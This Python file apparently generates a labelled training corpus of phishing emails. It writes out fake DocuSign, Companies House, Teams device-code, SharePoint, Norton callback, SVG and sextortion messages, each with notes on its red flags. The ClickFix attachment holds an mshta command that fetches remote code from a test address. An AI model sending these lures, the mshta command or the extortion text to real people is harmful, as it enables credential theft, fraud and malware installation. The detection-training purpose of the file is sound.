"""Attack messages 09-16 (English)."""
from lib import *

F = 'attack'


def a09():
    env = hx('a09env', 32)
    link = 'https://docusign.envelope-review.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s' % (
        hx('a09a', 36), hx('a09b', 36), hx('a09c', 36))
    plain = """Oliver Grant sent you a document to review and sign.

REVIEW DOCUMENT
{link}

Oliver Grant
oliver.grant@meridian-chartering.co.uk

James,

Please find attached Addendum No. 2 to the time charter party for MV Levante Express (delivery range, off-hire clause 17 and revised hire payment schedule). Owners have signed already; kindly countersign today so we can release the hire statement.

Best regards,
Oliver

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
{code}

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
""".format(link=link, code=hx('a09code', 32, UPHEX))
    htm = """<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;padding:0;background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea"><tr><td align="center" style="padding:20px">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:10px 24px"><span style="font-size:22px;font-weight:bold;color:#4c00ff">docusign</span></td></tr>
<tr><td style="background:#4c00ff;padding:28px;text-align:center;color:#fff">
<p style="font-size:16px;margin:0 0 6px">Oliver Grant sent you a document to review and sign.</p>
<p style="margin:22px 0 0"><a href="{link}" style="background:#ffc820;color:#000;text-decoration:none;font-weight:bold;padding:12px 26px;border-radius:2px;font-size:14px">REVIEW DOCUMENT</a></p>
</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333;line-height:21px">
<p><b>Oliver Grant</b><br><a href="mailto:oliver.grant@meridian-chartering.co.uk" style="color:#4c00ff">oliver.grant@meridian-chartering.co.uk</a></p>
<p>James,</p>
<p>Please find attached Addendum No. 2 to the time charter party for MV Levante Express (delivery range, off-hire clause 17 and revised hire payment schedule). Owners have signed already; kindly countersign today so we can release the hire statement.</p>
<p>Best regards,<br>Oliver</p>
</td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#666;background:#f4f4f4">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code: {code}<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</td></tr>
</table></td></tr></table></body></html>
""".format(link=link, code=hx('a09code', 32, UPHEX))
    Mail(F, 9, 'en', 'fake-docusign-charter-addendum',
         SendGrid(uid=48120557, em='em7720.envelope-review.net'), T(2026, 10, 20, 14, 5, 9),
         ('Oliver Grant via Docusign', 'dse_eu1@envelope-review.net'), [S('uk_mgr')],
         'Complete with Docusign: Addendum No.2 - TC CP MV Levante Express.pdf',
         alt(text(plain, 'utf-8', 'quoted-printable'), html(htm, 'utf-8', 'quoted-printable')),
         reply_to=('Oliver Grant', 'oliver.grant@meridian-chartering.co.uk'),
         what='Fake DocuSign envelope using the name of the company\'s real ship broker and a real charter.',
         why='Not sent by DocuSign: SendGrid from envelope-review.net; "REVIEW DOCUMENT" leads to '
             'docusign.envelope-review.net instead of docusign.net; the security code is decorative - '
             'credential phishing. Compare the genuine envelope in business/09.')


def a10():
    link = 'https://find-and-update.companieshouse.gov.uk.cs-filing-portal.co/penalty/notice?ref=CH-%s' % hx('a10', 8, UPHEX)
    plain = """Companies House

EXAMPLE GROUP UK LTD - Company number 09184472

Confirmation statement overdue - late filing penalty

Our records show that the confirmation statement for the above company, due on 28 October 2026, has not been received.

Under the Economic Crime and Corporate Transparency Act 2023 a civil penalty of GBP 150.00 has been applied to the company. If the statement and the penalty are not received within 7 days the registrar may begin action to strike the company off the register.

You can file the confirmation statement and pay the penalty online:
{link}

You will need your WebFiling email address and password, and the company authentication code.

Registrar of Companies
Companies House, Crown Way, Cardiff, CF14 3UZ

This is an automated message. Please do not reply.
""".format(link=link)
    htm = """<html><head><meta charset="UTF-8"></head><body style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c">
<div style="background:#0b0c0c;padding:12px 20px;color:#fff;font-weight:bold;font-size:20px">GOV.UK &nbsp;<span style="font-weight:normal">Companies House</span></div>
<div style="border-left:10px solid #1d70b8;padding:10px 20px;margin:20px 0">
<p><b>EXAMPLE GROUP UK LTD</b> &ndash; Company number 09184472</p>
<h2 style="font-size:24px">Confirmation statement overdue &ndash; late filing penalty</h2>
<p>Our records show that the confirmation statement for the above company, due on 28 October 2026, has not been received.</p>
<p>Under the Economic Crime and Corporate Transparency Act 2023 a civil penalty of <b>&pound;150.00</b> has been applied to the company. If the statement and the penalty are not received within 7 days the registrar may begin action to strike the company off the register.</p>
<p><a href="{link}" style="background:#00703c;color:#fff;padding:10px 18px;text-decoration:none;font-weight:bold">File and pay now</a></p>
<p>You will need your WebFiling email address and password, and the company authentication code.</p>
<p>Registrar of Companies<br>Companies House, Crown Way, Cardiff, CF14 3UZ</p></div>
<p style="font-size:13px;color:#505a5f">This is an automated message. Please do not reply.</p></body></html>
""".format(link=link)
    Mail(F, 10, 'en', 'companies-house-penalty-phishing',
         PHPMailer(tr=CpanelExim(host='server217.web-hosting.com', ip='198.54.117.205', local=True,
                                 unix_user='lakesidec'), host_id='lakesidecaravans.co.uk', ver='6.8.1', zone='ET'),
         T(2026, 11, 11, 9, 48, 37), ('Companies House', 'noreply@lakesidecaravans.co.uk'), [S('uk_acc')],
         'Action required: confirmation statement overdue - penalty notice EXAMPLE GROUP UK LTD',
         alt(text(plain, 'utf-8', 'quoted-printable'), html(htm, 'utf-8', 'base64')),
         what='Fake Companies House penalty notice for the UK subsidiary with a "file and pay" link.',
         why='Sent by a PHP script on a compromised caravan-park website (cPanel/Exim, envelope '
             'noreply@lakesidecaravans.co.uk); link host is companieshouse.gov.uk.cs-filing-portal.co; asks for '
             'WebFiling password, authentication code and a card payment; Companies House sends reminders via '
             'GOV.UK Notify without penalties for confirmation statements (see business/16).')


def a11():
    code = 'GH7KQ2LP9'
    plain = """Hi James,

Thanks for the call on Tuesday. As agreed, here is the invite for the quarterly rate review (Dover-Calais / Dover-Dunkirk trailer volumes, Q1 2027 allocation).

Microsoft Teams meeting
Thursday, 26 November 2026, 11:30-12:15 (GMT)

Since our IT moved us to the new Microsoft 365 conditional-access policy, external participants have to be verified once with a device code before they can join:

1. Open https://microsoft.com/devicelogin
2. Enter the code: {code}
3. Sign in with your Example Group account and approve.

The code is valid for 15 minutes, so please do it right away - after that the link in the invitation will work normally.

Cheers,
Mark

Mark Davies
Commercial Director
Channel Haulage Ltd
Unit 4, Whitfield Business Park, Dover CT16 3PX
T +44 1304 960 418 | M +44 7700 900 417
""".format(code=code)
    Mail(F, 11, 'en', 'device-code-phishing-teams-invite',
         EXO(org='channelhauiage.co.uk', region='GBR', lang='en-GB'), T(2026, 11, 26, 11, 14, 52),
         ('Mark Davies', 'mark.davies@channelhauIage.co.uk'), [S('uk_mgr')],
         'Teams: Q1 2027 rate review - Dover/Calais trailer volumes',
         outlook_alt(plain, 'us-ascii', cte_plain='7bit'),
         what='Device-code phishing disguised as a Teams invitation from a haulage customer.',
         why='Look-alike domain channelhauIage.co.uk (capital I for l; real: channelhaulage.co.uk) on its own '
             'Microsoft 365 tenant; the genuine devicelogin page is used with an attacker-generated code, which would '
             'hand the attacker tokens for James\' Microsoft 365 account; Teams meetings never need device codes.')


def a12():
    link = ('https://channelhaulage-my.sharepoint.com/:o:/g/personal/mark_davies_channelhaulage_co_uk/'
            'E%s?e=%s' % (hx('a12l', 46, ALNUM), hx('a12e', 6, ALNUM)))
    plain = """Mark Davies shared a file with you

Here's the remittance for the November settlement. Please open it and sign in with your email credentials to release the payment confirmation - the document is protected for external recipients.

CHL - Remittance Advice November 2026

Open: {link}

This link only works for the direct recipients of this message.

Microsoft respects your privacy. To learn more, please read our Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""".format(link=link)
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI',Tahoma,sans-serif;color:#323130">
<table width="520" cellpadding="0" cellspacing="0" style="margin:20px auto"><tr><td style="padding:16px 24px">
<div style="width:40px;height:40px;border-radius:20px;background:#8764b8;color:#fff;text-align:center;line-height:40px;font-size:15px">MD</div>
<p style="font-size:21px;font-weight:600;margin:12px 0">Mark Davies shared a file with you</p>
<p style="font-size:14px;border-left:3px solid #c8c6c4;padding-left:10px">Here's the remittance for the November settlement. Please open it and sign in with your email credentials to release the payment confirmation - the document is protected for external recipients.</p>
<table cellpadding="0" cellspacing="0" style="border:1px solid #edebe9;width:100%;margin:16px 0"><tr><td style="padding:14px;font-size:14px"><span style="background:#7719aa;color:#fff;padding:2px 6px;font-size:11px">N</span>&nbsp; CHL - Remittance Advice November 2026</td></tr></table>
<a href="{link}" style="background:#0f6cbd;color:#fff;padding:8px 22px;text-decoration:none;font-size:14px;border-radius:4px">Open</a>
<p style="font-size:12px;color:#605e5c;margin-top:22px">This link only works for the direct recipients of this message.</p>
<p style="font-size:11px;color:#605e5c">Microsoft respects your privacy. To learn more, please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</td></tr></table></body></html>
""".format(link=link)
    Mail(F, 12, 'en', 'sharepoint-share-from-compromised-customer',
         ServiceEXO(org='channelhaulage.co.uk', region='GBR'), T(2026, 12, 7, 11, 20, 3),
         ('Mark Davies', 'no-reply@sharepointonline.com'), [S('uk_acc')],
         'Mark Davies shared "CHL - Remittance Advice November 2026" with you',
         alt(text(plain, 'utf-8', 'quoted-printable'), html(htm, 'utf-8', 'base64')),
         reply_to=C['davies'], mailfrom='no-reply@sharepointonline.com',
         what='Genuine SharePoint sharing notification, triggered from the compromised account of a known customer.',
         why='Infrastructure and link are genuine Microsoft, but the shared item is a OneNote notebook (":o:" link) '
             'titled "Remittance Advice" and the sharer\'s note asks to "sign in with your email credentials to '
             'release the payment" - the standard hop to a credential-phishing page; Channel Haulage sends '
             'remittances as PDF from accounts@ (business/13). Living-off-trusted-services phishing.')


def a13():
    inv = 'NRT-UK-%d' % hnum('a13', 4400000, 4499999)
    plain = """Dear Customer,

Thank you for renewing your Norton 360 Total Protection for Business subscription. Your payment has been processed successfully and your licence has been extended for another 12 months.

Invoice number: {inv}
Product: Norton 360 Total Protection for Business - 25 devices
Amount charged: GBP 489.99
Payment method: Direct debit (account ending **71)

The invoice is attached for your records.

If you did not authorise this renewal or wish to cancel and obtain a full refund, please contact our billing department within 24 hours on 0800 098 8714 (Monday-Saturday, 8am-8pm). After 24 hours the renewal cannot be reversed.

Kind regards,
Billing Department
""".format(inv=inv)
    blocks = ['# INVOICE', 'Invoice No: ' + inv, 'Date: 06 October 2026', '', 'Bill to:', 'Sarah Collins',
              'Example Group UK Ltd', 'Eastern Docks, Dover CT16 1JA', '',
              '## Description                                                                    Qty     Amount',
              'Norton 360 Total Protection for Business (25 devices), 12 months            1       GBP 408.33',
              'VAT 20%                                                                                          GBP 81.66',
              '## Total charged                                                                               GBP 489.99', '',
              'Payment status: PAID (Direct debit)', '',
              'To cancel this renewal and receive a full refund call 0800 098 8714 within 24 hours.',
              'Customer ID: ' + hx('a13c', 10, UPHEX), '']
    Mail(F, 13, 'en', 'callback-phishing-norton-renewal',
         Gmail(host=('lf1', 'f48', '209.85.167.48'), zone='ET'), T(2026, 10, 6, 16, 33, 21),
         ('Billing Dept', 'rosalindmaddox.billing@gmail.com'), [S('uk_acc')],
         'Your subscription renewal receipt #%s' % inv,
         mixed(alt(text(plain, 'UTF-8', '7bit'), html('<div dir="ltr">' + h2t(plain).replace('\n', '<br>') + '</div>\n', 'UTF-8', '7bit')),
               pdf_part(blocks, 'Invoice_%s.pdf' % inv, title='Invoice', author='Billing', producer='Skia/PDF m131 Google Docs Renderer',
                        creator='Google Docs', created="D:20261006150100Z")),
         what='Callback phishing (TOAD): fake Norton renewal invoice with a phone number "to cancel".',
         why='Free-mail sender unrelated to Norton, no link at all, only a phone number to a scam call centre that '
             'will push remote-access software or a "refund" bank transfer; the company has no such subscription; '
             '24-hour pressure.')


def a14():
    ref = 'FL-2610-48213'
    plain = """FerryLink Partner Hub

Dear partner,

A guest has submitted a formal complaint regarding booking {ref} (Kiel - Gdynia, 27 October 2026, cabin B4-217). The guest reports an injury on board and requests compensation.

Under the FerryLink partner terms you are required to review the complaint and upload your response within 24 hours. Unanswered complaints are escalated automatically and may result in your sailings being hidden from search.

The complaint file (including the guest's photos and medical report) is attached. Open it in your browser to review.

Kind regards,
FerryLink Partner Support
""".format(ref=ref)
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>FerryLink - Complaint {ref}</title>
<style>body{{font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3;margin:0}}.c{{max-width:520px;margin:80px auto;background:#fff;border:1px solid #ddd;padding:30px}}
.s{{background:#f8f8f8;border:1px solid #ccc;padding:10px;font-family:Consolas,monospace;font-size:12px;word-break:break-all}}ol li{{margin:6px 0}}</style></head>
<body><div class="c">
<h2 style="margin-top:0">&#9888; Document could not be displayed</h2>
<p>The complaint file <b>{ref}.pdf</b> uses a protected viewer. Your browser must be verified before it can be opened.</p>
<p><b>Verify you are human:</b></p>
<ol>
<li>Press <b>Windows key + R</b></li>
<li>Press <b>Ctrl + V</b> to paste the verification code</li>
<li>Press <b>Enter</b></li>
</ol>
<p>Verification code (copied automatically):</p>
<div class="s">mshta http://198.51.100.23/fl/verify.hta # FerryLink Human Verification ID: {vid}</div>
<p style="font-size:12px;color:#777">Cloud verification &middot; Ray ID {ray}</p>
</div></body></html>
""".format(ref=ref, vid=hnum('a14v', 100000, 999999), ray=hx('a14r', 16))
    Mail(F, 14, 'en', 'clickfix-ota-guest-complaint',
         PHPMailer(tr=VPSPostfix(host='mail.ferrylink-partnerhub.com', rdns='static.181.44.21.65.clients.your-server.de',
                                 ip='65.21.44.181', lan='127.0.0.1', user_ip='127.0.0.1'),
                   host_id='ferrylink-partnerhub.com', ver='6.9.1', zone='UTC'),
         T(2026, 10, 30, 12, 12, 40), ('FerryLink Partner Support', 'support@ferrylink-partnerhub.com'), [S('pax')],
         'Guest complaint %s - response required within 24 hours' % ref,
         mixed(alt(text(plain, 'UTF-8', 'quoted-printable'),
                   html('<html><body style="font-family:Arial">' + h2t(plain).replace('\n\n', '</p><p>').replace('\n', '<br>') +
                        '</body></html>\n', 'UTF-8', 'quoted-printable')),
               attach(page.encode('utf-8'), 'text/html', 'Complaint_%s.html' % ref,
                      label='ClickFix page: tells the user to paste an mshta command into Win+R; static text, no script')),
         what='ClickFix lure: "guest complaint" from an online-travel-agency partner hub with an HTML attachment.',
         why='Unknown OTA domain on a Hetzner VPS; the attached page pretends the document cannot be shown and '
             'instructs the user to run an mshta command via Win+R (the ClickFix technique; the command in this '
             'corpus points to a TEST-NET address and is inert); 24-hour delisting threat.')


def a15():
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="620" height="420" viewBox="0 0 620 420">
<rect width="620" height="420" fill="#ffffff" stroke="#d0d0d0"/>
<rect width="620" height="64" fill="#12355b"/>
<text x="24" y="40" font-family="Arial" font-size="22" fill="#ffffff" font-weight="bold">Channel Haulage Ltd</text>
<text x="24" y="104" font-family="Arial" font-size="18" fill="#12355b" font-weight="bold">REMITTANCE ADVICE</text>
<text x="24" y="136" font-family="Arial" font-size="14" fill="#333">Payee: Example Group UK Ltd</text>
<text x="24" y="160" font-family="Arial" font-size="14" fill="#333">Payment reference: CHL-BACS-261125</text>
<text x="24" y="184" font-family="Arial" font-size="14" fill="#333">Amount: GBP 27,460.80 (3 invoices)</text>
<text x="24" y="224" font-family="Arial" font-size="13" fill="#666">This remittance is secured. Sign in with your Microsoft 365 account to view</text>
<text x="24" y="244" font-family="Arial" font-size="13" fill="#666">the itemised payment breakdown.</text>
<a xlink:href="https://chl-remit.sharedocs-view.com/auth/?u={u}" target="_blank">
<rect x="24" y="276" width="240" height="44" rx="4" fill="#0f6cbd"/>
<text x="56" y="304" font-family="Arial" font-size="16" fill="#ffffff">View remittance (PDF)</text>
</a>
</svg>
""".format(u=hx('a15u', 20, ALNUM))
    plain = """Hello,

Please find attached the remittance advice for our latest BACS payment (ref. CHL-BACS-261125) covering invoices UK-26-0871, UK-26-0902 and UK-26-0915.

Kind regards,

Accounts Department
Channel Haulage Ltd
"""
    Mail(F, 15, 'en', 'svg-remittance-attachment',
         Mailgun(mg='mg.channel-haulage.com'), T(2026, 11, 25, 15, 2, 11),
         ('Channel Haulage Accounts', 'accounts@channel-haulage.com'), [S('uk_acc')],
         'Remittance Advice - Payment Ref CHL-BACS-261125',
         mixed(text(plain, 'utf-8', '7bit'),
               attach(svg.encode('utf-8'), 'image/svg+xml', 'Remittance_CHL-BACS-261125.svg',
                      label='SVG with a clickable link to chl-remit.sharedocs-view.com; no script')),
         what='Remittance advice as SVG image attachment with an embedded link.',
         why='Look-alike domain channel-haulage.com (real: channelhaulage.co.uk) via Mailgun; the SVG opens in the '
             'browser and its button leads to a Microsoft 365 credential page on sharedocs-view.com; real '
             'remittances from Channel Haulage are PDFs from their own tenant (business/13).')


def a16():
    btc = coin.btc_bech32('a16')
    me = S('uk_mgr')
    plain = """Hello!

I have to share bad news with you.
Approximately few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

Here is the sequence of events:
Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase such thing online).
Obviously, I have easily managed to log in to your email account ({addr}).

One week later, I have already installed Trojan virus to Operating Systems of all the devices that you use to access your email.
In fact, it was not really hard at all (since you were following the links from your inbox emails).

This software provides me with access to all controllers of your devices (e.g., your microphone, video camera and keyboard).
I have downloaded all your information, data, photos, web browsing history to my servers.
I have access to all your messengers, social networks, emails, chat history and contacts list.

I have made a video showing you doing things you would not like your colleagues and family to see.
With one click of my mouse, I can send this video to all your contacts, including the people at your office.

If you want to prevent this, transfer the amount of 1450 USD to my bitcoin address (if you do not know how to do this, search "buy bitcoin" online):

{btc}

After receiving the payment, I will delete the video and you will never hear from me again.
You have 48 hours (2 days) to make the payment. I receive a notification as soon as you open this email.

Do not try to reply - this address is generated. Do not contact the police, I will know.
""".format(addr=me[1], btc=btc)
    Mail(F, 16, 'en', 'extortion-bitcoin-spoofed-self',
         Bot(helo='[187.45.102.71]', rdns='187-45-102-71.user.vivozap.com.br', ip='187.45.102.71'),
         T(2026, 12, 13, 3, 17, 55), me, [me],
         'Security Alert. Your account has been compromised. Password must be changed.',
         text(plain, 'utf-8', 'base64'),
         mailfrom=me[1],
         what='Sextortion / extortion spam with a Bitcoin address, From and To both set to the recipient.',
         why='The sender address is spoofed (own example.com address arriving straight from a Brazilian residential '
             'IP, not the internal relay); generic "hacked your devices" script; demands USD 1,450 to bech32 address '
             + btc + ' (valid checksum) within 48 hours - extortion.')


def build():
    for f in (a09, a10, a11, a12, a13, a14, a15, a16):
        f()
